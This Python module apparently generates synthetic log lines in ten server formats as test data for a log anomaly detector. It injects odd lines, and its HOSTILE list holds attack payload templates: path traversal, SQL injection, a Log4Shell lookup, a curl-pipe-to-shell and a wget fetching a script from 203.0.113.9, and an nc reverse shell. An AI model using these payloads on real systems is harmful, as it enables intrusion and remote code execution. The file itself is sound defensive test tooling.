# SPDX-License-Identifier: MIT
"""Logs in the formats of programs that training never saw, to test on only: log_lines.py foreign, log_lines.py roc.

Each system is a format and messages as its programs write them, typed from memory, the frequent ones first; values are drawn from a seed. None is
in log_lines.py or made_logs.py, and no line is of a real machine.
"""
import random
import time

UNITS = ("user@1000.service", "snapd.service", "cups-browsed.service", "wpa_supplicant.service", "bluetooth.service", "fwupd.service")
TABLES = ("orders", "customers", "stock_levels", "invoice_items", "sessions")
TOPICS = ("telemetry-raw", "telemetry-minute", "billing", "__consumer_offsets")
PODS = ("ingest-7c9f8d6b5-x2lqp", "ingest-7c9f8d6b5-9kmzt", "grafana-0", "coredns-5d78c9869d-4wvhn", "web-6f4b8c7d9-lt7rw")
PAGES = ("/", "/shop/cart", "/shop/item/%d", "/assets/main.3f9a1c.css", "/assets/app.77be02.js", "/api/v2/search?q=lamp&page=%d", "/robots.txt", "/img/thumb/%d.webp")
BROWSERS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
            "Googlebot/2.1 (+http://www.google.com/bot.html)", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0")


class Fields:
    """What a message may speak of: {name} in a template is the value of the function of that name."""

    def __init__(self, r):
        self.r, self.n = r, r.randint(1000, 9000)
        self.addresses = ["%d.%d.%d.%d" % tuple(r.randint(1, 250) for _ in range(4)) for _ in range(30)]

    def __getitem__(self, name):
        return getattr(self, "get_" + name)()

    def hexes(self, n):
        return "%0*x" % (n, self.r.getrandbits(4 * n))

    def get_n(self):
        return self.r.randint(1, 99)

    def get_ms(self):
        return "%.3f" % (self.r.expovariate(1 / 20))

    def get_bytes(self):
        return int(10 ** self.r.uniform(2, 5))

    def get_pid(self):
        self.n += self.r.randint(1, 9)
        return self.n

    def get_port(self):
        return self.r.randint(32768, 60999)

    def get_ip(self):
        return self.r.choice(self.addresses)

    def get_id(self):
        return self.hexes(10).upper()

    def get_uuid(self):
        return "-".join(self.hexes(n) for n in (8, 4, 4, 4, 12))

    def get_hash(self):
        return self.hexes(12)

    def get_who(self):
        return self.r.choice(("ines", "tobias.k", "office", "m.lindgren", "newsletter", "jo"))

    def get_unit(self):
        return self.r.choice(UNITS)

    def get_table(self):
        return self.r.choice(TABLES)

    def get_topic(self):
        return "%s-%d" % (self.r.choice(TOPICS), self.r.randint(0, 11))

    def get_pod(self):
        return self.r.choice(PODS)

    def get_page(self):
        page = self.r.choice(PAGES)
        return page % self.r.randint(1, 400) if "%d" in page else page

    def get_status(self):
        return self.r.choices((200, 304, 301, 404), (80, 12, 4, 4))[0]

    def get_browser(self):
        return self.r.choice(BROWSERS)


def syslog(host):
    def line(now, program, pid, text):
        t = time.gmtime(now)
        return "%s %2d %s %s %s: %s" % (time.strftime("%b", t), t.tm_mday, time.strftime("%H:%M:%S", t), host, "%s[%d]" % (program, pid) if pid else program, text)
    return line


def journal(host):
    """journalctl -o short-iso-precise"""
    return lambda now, program, pid, text: "%s.%06d+0100 %s %s: %s" % (
        time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)), now % 1 * 1e6, host, "%s[%d]" % (program, pid) if pid else program, text)


def stamped(form, places=0):
    return lambda now, program, pid, text: time.strftime(form, time.gmtime(now)).replace("@", "%0*d" % (places, now % 1 * 10 ** places)).replace("#", str(pid)) + text


def access(now, program, pid, text):
    return text.replace("@", time.strftime("%d/%b/%Y:%H:%M:%S", time.gmtime(now)))


# name -> (format, seconds between lines, ((program, message), ...)); a program ending in ! has a process number for each line.
# The first six were looked at while `ssm lines` was made, the last four were not.
SYSTEMS = {
    "mail": (syslog("alder"), 3, (
        ("postfix/smtpd!", "connect from unknown[{ip}]"),
        ("postfix/smtpd!", "disconnect from unknown[{ip}] ehlo=1 mail=1 rcpt=1 data=1 quit=1 commands=5"),
        ("postfix/qmgr", "{id}: from=<{who}@fjord.example>, size={bytes}, nrcpt=1 (queue active)"),
        ("postfix/smtp!", "{id}: to=<{who}@harbour.example>, relay=mx1.harbour.example[{ip}]:25, delay={ms}, delays=0.1/0/0.4/0.2, "
                          "dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as {id})"),
        ("postfix/cleanup!", "{id}: message-id=<{uuid}@fjord.example>"),
        ("postfix/qmgr", "{id}: removed"),
        ("dovecot", "imap-login: Login: user=<{who}>, method=PLAIN, rip={ip}, lip=10.4.0.3, mpid={pid}, TLS, session=<{hash}>"),
        ("dovecot", "imap({who})<{pid}><{hash}>: Disconnected: Logged out in={n} out={bytes} deleted=0 expunged=0 trashed=0 hdr_count={n}"),
        ("opendkim", "{id}: DKIM-Signature field added (s=2024, d=fjord.example)"),
        ("rsyslogd", "imuxsock lost {n} messages from pid {pid} due to rate-limiting"))),
    "desktop": (journal("birch"), 8, (
        ("systemd", "{unit}: Consumed {n}.{n}s CPU time."),
        ("systemd", "Started {unit}."),
        ("NetworkManager", "<info>  [{pid}.{n}] dhcp4 (wlp3s0): state changed new lease, address=192.168.178.{n}"),
        ("kernel", "usb 1-{n}: new full-speed USB device number {n} using xhci_hcd"),
        ("kernel", "wlp3s0: RX AssocResp from 3c:a6:2f:10:9b:e4 (capab=0x1411 status=0 aid={n})"),
        ("wpa_supplicant", "wlp3s0: CTRL-EVENT-SIGNAL-CHANGE above=1 signal=-{n} noise=9999 txrate={n}0000"),
        ("gnome-shell", "Window manager warning: last_user_time ({pid}) is greater than comparison timestamp ({pid})."),
        ("rtkit-daemon", "Supervising {n} threads of {n} processes of 1 users."),
        ("dbus-daemon", "[system] Activating via systemd: service name='org.freedesktop.fwupd' unit='fwupd.service' "
                        "requested by ':1.{n}' (uid=1000 pid={pid} comm=\"gnome-software\")"),
        ("pipewire", "pw.node: (alsa_output.pci-0000_00_1f.3.analog-stereo-{n}) suspended -> running"))),
    "shop": (access, 1, (
        ("", '{ip} - - [@ +0200] "GET {page} HTTP/2.0" {status} {bytes} "https://shop.example/" "{browser}"'),
        ("", '{ip} - - [@ +0200] "GET {page} HTTP/1.1" {status} {bytes} "-" "{browser}"'),
        ("", '{ip} - {who} [@ +0200] "POST /api/v2/cart HTTP/2.0" 201 {n} "https://shop.example/shop/cart" "{browser}"'))),
    "postgres": (stamped("%Y-%m-%d %H:%M:%S.@ CET [#] ", 3), 2, (
        ("pg!", "shop@store LOG:  duration: {ms} ms  statement: SELECT * FROM {table} WHERE id = {pid}"),
        ("pg!", "shop@store LOG:  duration: {ms} ms  execute <unnamed>: UPDATE {table} SET updated_at = now() WHERE id = $1"),
        ("pg!", "[unknown]@[unknown] LOG:  connection received: host={ip} port={port}"),
        ("pg!", "shop@store LOG:  connection authorized: user=shop database=store application_name=gunicorn"),
        ("checkpointer", "LOG:  checkpoint complete: wrote {n} buffers (0.{n}%); 0 WAL file(s) added, 0 removed, {n} recycled; "
                         "write={ms} s, sync=0.0{n} s, total={ms} s; sync files={n}, longest=0.00{n} s"),
        ("checkpointer", "LOG:  checkpoint starting: time"),
        ("autovacuum!", 'LOG:  automatic analyze of table "store.public.{table}"'))),
    "kafka": (stamped("[%Y-%m-%d %H:%M:%S,@] ", 3), 1, (
        ("k", "INFO [GroupCoordinator 2]: Member sarama-{uuid} in group minute-roller has failed, removing it from the group "
              "(kafka.coordinator.group.GroupCoordinator)"),
        ("k", "INFO [Log partition={topic}, dir=/srv/kafka] Rolled new log segment at offset {pid} in {n} ms. (kafka.log.Log)"),
        ("k", "INFO [ReplicaFetcher replicaId=2, leaderId=1, fetcherId=0] Truncating partition {topic} to local high watermark {pid} "
              "(kafka.server.ReplicaFetcherThread)"),
        ("k", "INFO [GroupMetadataManager brokerId=2] Removed {n} expired offsets in {n} milliseconds. "
              "(kafka.coordinator.group.GroupMetadataManager)"),
        ("k", "WARN Attempting to send response via channel for which there is no open connection, "
              "connection id 10.9.1.4:9092-{ip}:{port}-{n} (kafka.network.Processor)"))),
    "kubelet": (stamped("I%m%d %H:%M:%S.@ ", 6), 1, (
        ("k", '   1843 kubelet.go:2449] "SyncLoop (PLEG): event for pod" pod="prod/{pod}" '
              'event={{"ID":"{uuid}","Type":"ContainerStarted","Data":"{hash}{hash}"}}'),
        ("k", '   1843 prober.go:107] "Probe failed" probeType="Readiness" pod="prod/{pod}" podUID="{uuid}" containerName="main" '
              'probeResult="failure" output="HTTP probe failed with statuscode: 503"'),
        ("k", '   1843 operation_generator.go:664] "MountVolume.SetUp succeeded for volume \\"config\\" '
              '(UniqueName: \\"kubernetes.io/configmap/{uuid}-config\\") pod \\"{pod}\\" (UID: \\"{uuid}\\") " pod="prod/{pod}"'),
        ("k", '   1843 scope.go:117] "RemoveContainer" containerID="{hash}{hash}"'),
        ("k", '   1843 pod_startup_latency_tracker.go:102] "Observed pod startup duration" pod="prod/{pod}" podStartE2EDuration="{ms}s"'))),
    "haproxy": (syslog("lb-east-2.dc1"), 1, (
        ("haproxy", '{ip}:{port} [20/May/2024:09:12:07.{n}] fe_https~ be_app/app{n} 0/0/1/{n}/{n} {status} {bytes} - - ---- {n}/{n}/0/0/0 0/0 '
                    '"GET {page} HTTP/1.1"'),
        ("haproxy", "{ip}:{port} [20/May/2024:09:12:07.{n}] fe_https/1: SSL handshake failure"),
        ("keepalived_vrrp", "(VI_1) Received advert from 10.77.0.{n} with priority {n}"),
        ("chronyd", "Selected source 10.77.0.{n}"),
        ("systemd-logind", "New session c{n} of user monitor."))),
    "broker": (stamped("%Y-%m-%dT%H:%M:%S: "), 2, (
        ("m", "New client connected from {ip}:{port} as meter-{hash} (p2, c1, k60, u'plant')."),
        ("m", "Client meter-{hash} closed its connection."),
        ("m", "Received PUBLISH from meter-{hash} (d0, q1, r0, m{port}, 'plant/hall{n}/power', ... ({n} bytes))"),
        ("m", "Sending PUBACK to meter-{hash} (m{port}, rc0)"),
        ("m", "Saving in-memory database to /var/lib/mosquitto//mosquitto.db."))),
    "spring": (stamped("%Y-%m-%d %H:%M:%S.@  INFO 1 --- ", 3), 2, (
        ("j", "[nio-8080-exec-{n}] o.s.web.servlet.DispatcherServlet        : Completed 200 OK, headers={{masked}}"),
        ("j", "[nio-8080-exec-{n}] c.a.billing.InvoiceController            : invoice {uuid} rendered for {who} in {n} ms"),
        ("j", "[   scheduling-1] c.a.billing.DunningJob                   : {n} invoices due, {n} reminders sent"),
        ("j", "[l-1 housekeeper] com.zaxxer.hikari.pool.HikariPool        : HikariPool-1 - Pool stats (total=10, active={n}, idle={n}, waiting=0)"),
        ("j", "[ntainer#0-0-C-1] o.a.k.c.c.internals.ConsumerCoordinator  : Setting offset for partition {topic} to the committed offset {pid}"))),
    "storage": (journal("nas.attic"), 20, (
        ("kernel", "md/raid1:md0: resync position {pid}, speed {n}K/sec"),
        ("smartd", "Device: /dev/sd{n} [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from {n} to {n}"),
        ("smbd!", "{who} ({ip}) connect to service photos initially as user {who} (uid=1004, gid=100)"),
        ("rsync!", "[receiver] wrote {bytes} bytes to backup/{who}/{hash}.part"),
        ("zed", "eid={n} class=history_event pool='tank' snapshot='tank/home@auto-{n}'"))),
}


def lines(system, seed, count):
    """`count` ordinary lines of one of SYSTEMS."""
    form, pace, messages = SYSTEMS[system]
    r = random.Random(repr((system, seed)))
    fields, now = Fields(r), 1.71e9 + r.random() * 1e7
    pids = {program: r.randint(300, 3000) for program, _ in messages}
    for _ in range(count):
        now += r.expovariate(1 / pace)
        program, text = messages[int(len(messages) * r.random() ** 1.5)]
        pid = fields.get_pid() if program.endswith("!") else pids[program]
        yield form(now, program.rstrip("!"), 0 if program == "kernel" else pid, text.format_map(fields))


# ---- lines that are odd in any log ----------------------------------------------------------------------------------

WHO = ("fan", "cell", "mirror", "tape", "inverter", "licence", "valve", "modem", "quorum", "spindle", "journal", "bearing", "firmware", "mailbox")
WHAT = ("overheated", "is corrupt", "went backwards", "vanished", "has been tampered with", "is read-only now", "melts", "refuses to sync", "was revoked", "leaks")
SO = ("giving up", "please replace", "dumping core", "halting", "trying the spare", "nothing was written", "assume the worst", "degraded", "call support", "rolling back")
HOSTILE = ("/../../../../etc/%s", "admin'%%20OR%%20%s=1--", ";wget%%20http://203.0.113.9/%s.sh", "${jndi:ldap://203.0.113.9/%s}", "/%s/setup-config.php",
           "<script>%s(1)</script>", "$(curl${IFS}203.0.113.9/%s|sh)", "UNION%%20SELECT%%20%s", "|nc${IFS}-e${IFS}/bin/%s", "%%00%s%%00")


def strange(r):
    return "%s %s, %s" % (r.choice(WHO), r.choice(WHAT), r.choice(SO))


def new_message(r, line):
    words = line.split(" ")
    return " ".join(words[:max(3, len(words) // 3)]) + " " + strange(r)


def attack(r, line):
    words = line.split(" ")
    words[r.randrange(len(words) // 2, len(words))] = r.choice(HOSTILE) % "".join(r.choices("abcdefghijklmnopqrstuvwxyz", k=5))
    return " ".join(words)


def damaged_bytes(r, line):
    at = r.randrange(10, len(line) - 4)
    return line[:at] + "".join(chr(r.randint(33, 126)) for _ in range(4)) + line[at + 4:]


ODD = dict(new_message=new_message, attack=attack, damaged_bytes=damaged_bytes)


def mixed(system, seed, count, share, after=200):
    """(kind or '', line): ordinary lines, and from line `after` on a share of odd ones."""
    r = random.Random(repr((system, seed, "odd")))
    for i, line in enumerate(lines(system, seed, count)):
        if i >= after and r.random() < share:
            kind = r.choice(sorted(ODD))
            yield kind, ODD[kind](r, line)
        else:
            yield "", line
